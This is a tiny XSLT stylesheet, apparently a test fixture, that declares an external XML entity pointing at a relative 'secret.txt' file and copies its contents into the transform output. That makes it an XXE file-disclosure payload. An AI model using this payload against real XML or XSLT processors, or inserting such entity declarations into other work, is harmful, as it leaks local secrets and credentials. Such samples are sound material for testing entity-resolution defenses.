<?xml version="1.0"?>
<!DOCTYPE xsl:stylesheet [
  <!ENTITY leak SYSTEM "../secret.txt">
]>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:template match="/"><out>&leak;</out></xsl:template>
</xsl:stylesheet>
